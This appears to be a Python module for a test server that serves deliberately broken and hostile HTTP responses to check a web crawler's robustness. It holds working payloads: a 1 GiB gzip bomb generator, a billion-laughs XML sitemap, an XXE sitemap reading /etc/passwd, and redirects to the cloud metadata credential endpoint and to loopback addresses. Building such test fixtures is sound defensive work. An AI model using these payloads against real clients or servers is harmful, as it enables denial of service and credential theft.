"""Broken and hostile HTTP behaviours of the synthetic web, described as send plans.

A `Plan` says what the server writes and how (delays, framing, lies, resets); `plan_for` picks the
plan for one request to a ``broken-<kind>-NN.com`` host. Large bodies are generators, never held in
memory. Everything here is pure: the server in `web.py` executes plans, this module only builds them.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import lru_cache
from typing import Literal

__all__ = [
    "BASIC_KINDS",
    "HOSTILE_KINDS",
    "GzipBomb",
    "HostileSettings",
    "OversizeUrlset",
    "Plan",
    "billion_laughs_sitemap",
    "deep_nesting_html",
    "garbage",
    "html_stream",
    "invalid_encoding_html",
    "plan_for",
    "xxe_sitemap",
]

MiB = 1024 * 1024

# The broken kinds every demo run may meet (also exported as sites.BROKEN_KINDS).
BASIC_KINDS: tuple[str, ...] = (
    "404",
    "500",
    "timeout",
    "redirect-loop",
    "non-html",
    "oversize",
    "unknown-host",
)

# Kinds for the reliability suite. NN in the domain parametrises some of them:
# redirect-chain -> NN redirects, 429/503 -> the first NN requests per path fail,
# redirect-loopback -> variant NN (see _LOOPBACK_TARGETS), content-length-lie -> odd NN declares
# more than it sends, even NN less, huge-html -> odd NN has a Content-Length, even NN is chunked.
HOSTILE_KINDS: tuple[str, ...] = (
    "slow-drip",
    "endless",
    "content-length-lie",
    "gzip-bomb",
    "gzip-bomb-sitemap",
    "billion-laughs",
    "xxe",
    "redirect-chain",
    "redirect-loopback",
    "redirect-metadata",
    "redirect-localhost",
    "429",
    "503",
    "reset",
    "wrong-content-type",
    "binary-garbage",
    "invalid-encoding",
    "huge-headers",
    "huge-html",
    "deep-nesting",
)

OVERSIZE_BYTES = 20 * MiB
OVERSIZE_SITEMAP_BYTES = 60 * MiB  # over the sitemap protocol's 50 MB, so any sane cap trips
HUGE_HTML_BYTES = 50 * MiB
BOMB_BYTES = 1024 * MiB
DEEP_NESTING_DEPTH = 100_000

_LOOPBACK_TARGETS = (
    "http://127.0.0.1/",
    "http://[::1]/",
    "http://2130706433/",  # 127.0.0.1 written as one decimal number
    "http://127.1/",
)
_SITEMAP_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"

Headers = tuple[tuple[str, str], ...]
Ending = Literal["keep", "close", "reset"]


@dataclass(frozen=True, slots=True)
class Plan:
    """How to answer one request.

    `stream` (a factory, so a plan can be reused) replaces `body`; with `length` it is sent with
    that Content-Length, without it chunked. `declared_length` is written as Content-Length instead
    of the true one (a lie). `stop_after` ends the body after that many bytes, then `ending` says
    whether the connection is kept, closed, or reset (RST).
    """

    status: int
    headers: Headers = ()
    body: bytes = b""
    stream: Callable[[], Iterable[bytes]] | None = None
    length: int | None = None
    declared_length: int | None = None
    delay: float = 0.0
    chunk_delay: float = 0.0
    stop_after: int | None = None
    ending: Ending = "keep"


@dataclass(frozen=True, slots=True)
class HostileSettings:
    """Server-wide knobs the plans depend on."""

    slow_seconds: float = 30.0
    drip_interval: float = 0.25
    retry_after: int = 1
    probe_base: str = "http://127.0.0.1"  # where an XXE probe lands if a parser fetches it


def _html_headers(extra: Headers = ()) -> Headers:
    return (("Content-Type", "text/html; charset=utf-8"), *extra)


def _small_page(title: str, text: str) -> bytes:
    return (
        f"<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head>"
        f"<body><h1>{title}</h1><p>{text}</p></body></html>"
    ).encode()


def _ok(domain: str, path: str) -> Plan:
    """What a broken site answers once it has recovered (429/503 after NN failures, chain ends)."""
    if path == "/robots.txt":
        return Plan(200, (("Content-Type", "text/plain"),), b"User-agent: *\nAllow: /\n")
    if path in ("/", "/final"):
        return Plan(200, _html_headers(), _small_page(f"{domain} is back", "Recovered after errors."))
    return Plan(404, _html_headers(), _small_page("Not Found", "No such page."))


def _not_found() -> Plan:
    return Plan(404, _html_headers(), _small_page("Not Found", "No such page."))


# --------------------------------------------------------------------------------------------
# Body generators


class GzipBomb:
    """A gzip stream that inflates `size` bytes of `filler` between `prefix` and `suffix`.

    Deflate output after a full flush does not depend on earlier input, so one compressed 1 MiB
    block is computed once and repeated: a 1 GiB bomb costs ~1 MB of bytes and no CPU to send.
    """

    CHUNK = MiB

    def __init__(self, size: int, prefix: bytes = b"", suffix: bytes = b"", filler: bytes = b" ") -> None:
        self.prefix, self.suffix = prefix, suffix
        self.total = size
        body = max(0, size - len(prefix) - len(suffix))
        self.full_chunks, self.rest = divmod(body, self.CHUNK)
        self.chunk = filler * self.CHUNK
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
        self._block = c.compress(self.chunk) + c.flush(zlib.Z_FULL_FLUSH)
        self._rest = c.compress(self.chunk[: self.rest]) + c.flush(zlib.Z_FULL_FLUSH)
        self._tail = c.compress(suffix) + c.flush(zlib.Z_FINISH)
        # gzip header: magic, deflate, no flags, mtime 0 (deterministic), max compression, unknown OS
        self._gzip_header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        self.length = (
            len(self._gzip_header) + len(self._head) + self.full_chunks * len(self._block)
            + len(self._rest) + len(self._tail) + 8
        )

    def __iter__(self) -> Iterator[bytes]:
        crc = zlib.crc32(self.prefix)
        yield self._gzip_header + self._head
        for _ in range(self.full_chunks):
            crc = zlib.crc32(self.chunk, crc)
            yield self._block
        crc = zlib.crc32(self.chunk[: self.rest], crc)
        crc = zlib.crc32(self.suffix, crc)
        yield self._rest + self._tail + struct.pack("<II", crc, self.total & 0xFFFFFFFF)


@lru_cache(maxsize=8)
def _bomb(size: int, prefix: bytes, suffix: bytes) -> GzipBomb:
    return GzipBomb(size, prefix, suffix)


class OversizeUrlset:
    """A valid urlset of exactly `total` bytes listing `count` URLs ``<prefix><8 digits>``, streamed.

    Every entry has the same width, so the count is known without generating the body.
    """

    BLOCK = 2048  # entries per yielded piece

    def __init__(self, total: int, prefix: str) -> None:
        self.head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="{_SITEMAP_NS}">\n').encode()
        self.tail = b"</urlset>\n"
        self.prefix = prefix
        width = len(self._entry(0))
        room = total - len(self.head) - len(self.tail)
        if room < 0:
            raise ValueError(f"total {total} is too small for an urlset")
        self.count, self.padding = divmod(room, width)
        self.length = total

    def _entry(self, k: int) -> bytes:
        return f"<url><loc>{self.prefix}{k:08d}</loc></url>\n".encode()

    def __iter__(self) -> Iterator[bytes]:
        yield self.head
        for start in range(0, self.count, self.BLOCK):
            stop = min(self.count, start + self.BLOCK)
            yield b"".join(self._entry(k) for k in range(start, stop))
        yield b"\n" * self.padding + self.tail


def html_stream(total: int, title: str = "Huge page", chunk: int = 64 * 1024) -> Iterator[bytes]:
    """Exactly `total` bytes of valid-looking HTML, produced chunk by chunk."""
    head = f"<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head><body>\n".encode()
    tail = b"\n</body></html>\n"
    para = b"<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor.</p>\n"
    block = para * (chunk // len(para) + 1)
    filler = max(0, total - len(head) - len(tail))
    yield head[:total]
    while filler > 0:
        n = min(filler, len(block))
        yield block[:n]
        filler -= n
    if total > len(head):
        yield tail[: total - len(head)]


def _endless(chunk: int = 64 * 1024) -> Iterator[bytes]:
    yield b"<!DOCTYPE html><html><head><title>Endless</title></head><body>\n"
    block = b"<p>more</p>\n" * (chunk // 12)
    while True:
        yield block


def _drip(settings: HostileSettings) -> Iterator[bytes]:
    yield b"<!DOCTYPE html><html><head><title>Slow drip</title></head><body>\n"
    steps = max(1, int(settings.slow_seconds / max(settings.drip_interval, 1e-3)))
    for i in range(steps):
        yield f"<!-- {i:06d} -->\n".encode()
    yield b"<p>finally done</p></body></html>\n"


def deep_nesting_html(depth: int = DEEP_NESTING_DEPTH) -> bytes:
    """A page whose body is `depth` nested <div>s (parsers with recursion or depth limits beware)."""
    return (
        b"<!DOCTYPE html><html><head><title>Deep</title></head><body>"
        + b"<div>" * depth + b"bottom" + b"</div>" * depth + b"</body></html>"
    )


def garbage(n: int, seed: int) -> bytes:
    """n bytes of seeded binary noise."""
    return random.Random(f"garbage:{seed}").randbytes(n)


def invalid_encoding_html() -> bytes:
    """Declares UTF-8 but holds Latin-1 bytes and broken multi-byte sequences."""
    return (
        b"<!DOCTYPE html><html lang=\"de\"><head><meta charset=\"utf-8\"><title>Caf\xe9 M\xfcller \xc3\x28</title>"
        b"</head><body><p>Stra\xdfe \xff\xfe\x80 \xe2\x82 ende</p></body></html>"
    )


def billion_laughs_sitemap(domain: str) -> bytes:
    """A urlset behind the classic exponential-entity DTD (10^9 'lol's if expanded)."""
    ents = ['  <!ENTITY lol "lol">']
    for k in range(1, 10):
        prev = "lol" if k == 1 else f"lol{k - 1}"
        ents.append(f'  <!ENTITY lol{k} "' + f"&{prev};" * 10 + '">')
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n' + "\n".join(ents) + "\n]>\n"
        f'<urlset xmlns="{_SITEMAP_NS}">\n'
        f"  <url><loc>http://{domain}/</loc></url>\n"
        f"  <url><loc>http://{domain}/&lol9;</loc></url>\n"
        "</urlset>\n"
    ).encode()


def xxe_sitemap(domain: str, probe_url: str) -> bytes:
    """A urlset whose entities read a local file and fetch `probe_url` if a parser resolves them."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n'
        '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        f'  <!ENTITY probe SYSTEM "{probe_url}">\n'
        "]>\n"
        f'<urlset xmlns="{_SITEMAP_NS}">\n'
        f"  <url><loc>http://{domain}/</loc></url>\n"
        f"  <url><loc>http://{domain}/leak?d=&xxe;</loc></url>\n"
        f"  <url><loc>http://{domain}/probe?d=&probe;</loc></url>\n"
        "</urlset>\n"
    ).encode()


_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


# --------------------------------------------------------------------------------------------
# Selection


def _redirect(status: int, location: str) -> Plan:
    return Plan(status, (("Location", location), ("Content-Type", "text/html; charset=utf-8")),
                _small_page("Moved", f'<a href="{location}">moved</a>'))


def _hop_step(path: str) -> int:
    tail = path.removeprefix("/hop/")
    return int(tail) if tail != path and tail.isdigit() else -1


def _sitemap_site(domain: str, path: str, sitemap_path: str, sitemap: Plan) -> Plan:
    """A normal-looking tiny site whose robots.txt points at a hostile sitemap."""
    if path == "/robots.txt":
        body = f"User-agent: *\nAllow: /\n\nSitemap: http://{domain}{sitemap_path}\n".encode()
        return Plan(200, (("Content-Type", "text/plain"),), body)
    if path == sitemap_path:
        return sitemap
    if path == "/":
        return Plan(200, _html_headers(), _small_page(domain, "A site with a dangerous sitemap."))
    return _not_found()


# Kinds whose robots.txt is a plain 404, so the misbehaviour shows on the page itself instead of
# turning into "robots.txt unreachable, disallow all" (RFC 9309) before the page is ever asked for.
_PLAIN_ROBOTS = frozenset({
    "non-html", "oversize", "wrong-content-type", "binary-garbage", "invalid-encoding", "huge-html",
    "deep-nesting", "gzip-bomb", "slow-drip", "endless", "content-length-lie", "reset", "huge-headers",
})


def plan_for(kind: str, n: int, host: str, path: str, attempt: int, settings: HostileSettings) -> Plan:
    """The plan for a request to ``broken-<kind>-<n>`` at `host` (lower-case, no port).

    `attempt` counts earlier requests for the same (site, path) on this server, from 0.
    """
    domain = host.removeprefix("www.")
    if kind in _PLAIN_ROBOTS and path == "/robots.txt":
        return _not_found()
    match kind:
        case "404":
            return Plan(404, _html_headers(), _small_page("404 Not Found", "Nothing here."))
        case "500":
            return Plan(500, _html_headers(), _small_page("500 Internal Server Error", "Something broke."))
        case "timeout":
            return Plan(200, _html_headers(), _small_page("Too late", "Answered after a long wait."),
                        delay=settings.slow_seconds)
        case "redirect-loop":
            # apex -> www -> apex ..., the classic misconfigured canonical-host loop
            target = f"http://{domain}{path}" if host.startswith("www.") else f"http://www.{domain}{path}"
            return _redirect(301, target)
        case "non-html":
            ctype = "application/pdf" if n % 2 else "application/octet-stream"
            return Plan(200, (("Content-Type", ctype),), _PDF)
        case "oversize":
            return Plan(200, _html_headers(), stream=lambda: html_stream(OVERSIZE_BYTES, "Oversize"))
        case "unknown-host":
            return Plan(421, (("Content-Type", "text/plain"),), b"misdirected: this host does not exist\n")
        case "slow-drip":
            return Plan(200, _html_headers(), stream=lambda: _drip(settings), chunk_delay=settings.drip_interval)
        case "endless":
            return Plan(200, _html_headers(), stream=_endless)
        case "content-length-lie":
            body = _small_page("Liar", "x" * 2000)
            if n % 2:  # promises 1 MiB, sends 2 KB, hangs up
                return Plan(200, _html_headers(), body, declared_length=MiB, ending="close")
            # promises half of what it sends: the rest poisons the next response on a kept-alive connection
            return Plan(200, _html_headers(), body, declared_length=len(body) // 2)
        case "gzip-bomb":
            bomb = _bomb(BOMB_BYTES, b"<!DOCTYPE html><html><head><title>Bomb</title></head><body>",
                         b"</body></html>")
            return Plan(200, _html_headers((("Content-Encoding", "gzip"),)), stream=bomb.__iter__,
                        length=bomb.length)
        case "gzip-bomb-sitemap":
            bomb = _bomb(BOMB_BYTES,
                         f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="{_SITEMAP_NS}">'
                         f"<url><loc>http://{domain}/</loc></url>".encode(), b"</urlset>\n")
            plan = Plan(200, (("Content-Type", "application/x-gzip"),), stream=bomb.__iter__, length=bomb.length)
            return _sitemap_site(domain, path, "/sitemap.xml.gz", plan)
        case "billion-laughs":
            plan = Plan(200, (("Content-Type", "application/xml"),), billion_laughs_sitemap(domain))
            return _sitemap_site(domain, path, "/sitemap.xml", plan)
        case "xxe":
            plan = Plan(200, (("Content-Type", "application/xml"),),
                        xxe_sitemap(domain, f"{settings.probe_base}/__xxe_probe?host={domain}"))
            return _sitemap_site(domain, path, "/sitemap.xml", plan)
        case "redirect-chain":
            # "/" and "/hop/k" each redirect once; NN redirects in all, then "/final" answers 200
            if path == "/final":
                return _ok(domain, path)
            step = 0 if path == "/" else _hop_step(path)
            if step < 0 or step >= max(n, 1):
                return _not_found()
            status = (301, 302, 307, 308)[step % 4]
            nxt = f"/hop/{step + 1}" if step + 1 < n else "/final"
            return _redirect(status, f"http://{host}{nxt}")
        case "redirect-loopback":
            return _redirect(302, _LOOPBACK_TARGETS[(max(n, 1) - 1) % len(_LOOPBACK_TARGETS)])
        case "redirect-metadata":
            return _redirect(302, "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        case "redirect-localhost":
            return _redirect(302, "http://localhost/admin")
        case "429" | "503":
            if attempt < n:
                status = int(kind)
                return Plan(status, (("Retry-After", str(settings.retry_after)), *_html_headers()),
                            _small_page(f"{status}", "Slow down and retry later."))
            return _ok(domain, path)
        case "reset":
            return Plan(200, _html_headers(), _small_page("Reset", "y" * 64 * 1024), stop_after=8 * 1024,
                        ending="reset")
        case "wrong-content-type":
            return Plan(200, (("Content-Type", "image/jpeg"),),
                        _small_page(f"{domain} wrong type", "HTML labelled as a JPEG."))
        case "binary-garbage":
            return Plan(200, _html_headers(), garbage(64 * 1024, n))
        case "invalid-encoding":
            return Plan(200, _html_headers(), invalid_encoding_html())
        case "huge-headers":
            filler = tuple((f"X-Filler-{k:04d}", "f" * 100) for k in range(1000))
            cookie = ("Set-Cookie", "big=" + "c" * 64 * 1024 + "; Path=/")
            return Plan(200, (*_html_headers(), cookie, *filler), _small_page("Headers", "Huge headers above."))
        case "huge-html":
            # odd NN: honest Content-Length (a client can refuse up front); even NN: chunked, so the cap
            # must hold while reading
            return Plan(200, _html_headers(), stream=lambda: html_stream(HUGE_HTML_BYTES, "Huge"),
                        length=HUGE_HTML_BYTES if n % 2 else None)
        case "deep-nesting":
            return Plan(200, _html_headers(), deep_nesting_html())
    raise ValueError(f"unknown broken kind {kind!r}")
